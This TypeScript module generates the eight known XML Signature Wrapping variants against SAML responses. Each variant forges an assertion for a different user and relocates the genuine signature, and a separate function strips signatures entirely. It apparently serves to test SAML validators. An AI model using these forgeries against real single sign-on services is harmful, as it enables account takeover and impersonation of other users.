import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const EVIL = 'somebody-else';
const DS = 'http://www.w3.org/2000/09/xmldsig#';

/** The parts of an answer that were signed by the provider, and the same again by nobody, about somebody else. */
function partsOf(xml: string) {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement;
  const child = (of: Element, name: string): Element => {
    const found = Array.from(of.childNodes).find(
      (node): node is Element => node.nodeType === 1 && 'localName' in node && node.localName === name,
    );
    if (found === undefined) throw new Error(`The answer has no ${name}.`);
    return found;
  };
  const assertion = child(response, 'Assertion');
  const signature = child(assertion, 'Signature');
  const forged = (original: Element, id: string): Element => {
    const clone = document.createElement('clone');
    clone.appendChild(original.cloneNode(true));
    const [made] = Array.from(clone.childNodes).filter((node): node is Element => node.nodeType === 1);
    if (made === undefined) throw new Error('Nothing was cloned.');
    made.setAttribute('ID', id);
    for (const each of Array.from(made.getElementsByTagNameNS(DS, 'Signature'))) each.parentNode?.removeChild(each);
    for (const name of Array.from(made.getElementsByTagName('saml:NameID'))) name.textContent = EVIL;
    return made;
  };
  const object = (content: Element): Element => {
    const made = document.createElementNS(DS, 'ds:Object');
    made.appendChild(content);
    return made;
  };
  return { document, response, assertion, signature, forged, object, child };
}
type Parts = ReturnType<typeof partsOf>;

/** The eight ways to wrap what is signed into what is believed (Somorovsky et al., On Breaking SAML, 2012). */
const WRAPPINGS: Readonly<Record<string, (parts: Parts) => Element>> = {
  'XSW 1: a forged response, the signed one in its signature': ({ response, forged, object, child }) => {
    const evil = forged(response, '_evil');
    const signature = child(response, 'Signature');
    response.removeChild(signature);
    evil.insertBefore(signature, evil.firstChild);
    signature.appendChild(object(response));
    return evil;
  },
  'XSW 2: a forged response, the signed one beside its signature': ({ response, forged, child }) => {
    const evil = forged(response, '_evil');
    const signature = child(response, 'Signature');
    response.removeChild(signature);
    evil.insertBefore(response, evil.firstChild);
    evil.insertBefore(signature, evil.firstChild);
    return evil;
  },
  'XSW 3: a forged assertion before the signed one': ({ response, assertion, forged }) => {
    response.insertBefore(forged(assertion, '_evil'), assertion);
    return response;
  },
  'XSW 4: the signed assertion in a forged one': ({ response, assertion, forged }) => {
    const evil = forged(assertion, '_evil');
    response.replaceChild(evil, assertion);
    evil.appendChild(assertion);
    return response;
  },
  'XSW 5: a forged assertion with the signature, the signed one behind it': ({
    response,
    assertion,
    signature,
    forged,
  }) => {
    const evil = forged(assertion, '_evil');
    assertion.removeChild(signature);
    evil.insertBefore(signature, evil.firstChild);
    response.insertBefore(evil, assertion);
    return response;
  },
  'XSW 6: a forged assertion, the signed one in its signature': ({ response, assertion, signature, forged }) => {
    const evil = forged(assertion, '_evil');
    response.replaceChild(evil, assertion);
    assertion.removeChild(signature);
    signature.appendChild(assertion);
    evil.insertBefore(signature, evil.firstChild);
    return response;
  },
  'XSW 7: a forged assertion among the extensions': ({ document, response, assertion, forged }) => {
    const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions');
    extensions.appendChild(forged(assertion, '_evil'));
    response.insertBefore(extensions, assertion);
    return response;
  },
  'XSW 8: a forged assertion, the signed one in an object of its signature': ({
    response,
    assertion,
    signature,
    forged,
    object,
  }) => {
    const evil = forged(assertion, '_evil');
    response.replaceChild(evil, assertion);
    assertion.removeChild(signature);
    signature.appendChild(object(assertion));
    evil.insertBefore(signature, evil.firstChild);
    return response;
  },
};

/** Name of each wrapping, and what it makes of an answer (base64). */
export const wrappedAnswers: readonly (readonly [string, (answer: string) => string])[] = Object.entries(WRAPPINGS).map(
  ([name, wrap]) => [
    name,
    (answer) => {
      const wrapped = wrap(partsOf(Buffer.from(answer, 'base64').toString()));
      return Buffer.from(new XMLSerializer().serializeToString(wrapped)).toString('base64');
    },
  ],
);

/** The same answer without any signature. */
export function unsignedAnswer(answer: string): string {
  const { document } = partsOf(Buffer.from(answer, 'base64').toString());
  for (const each of Array.from(document.getElementsByTagNameNS(DS, 'Signature'))) each.parentNode?.removeChild(each);
  return Buffer.from(new XMLSerializer().serializeToString(document)).toString('base64');
}
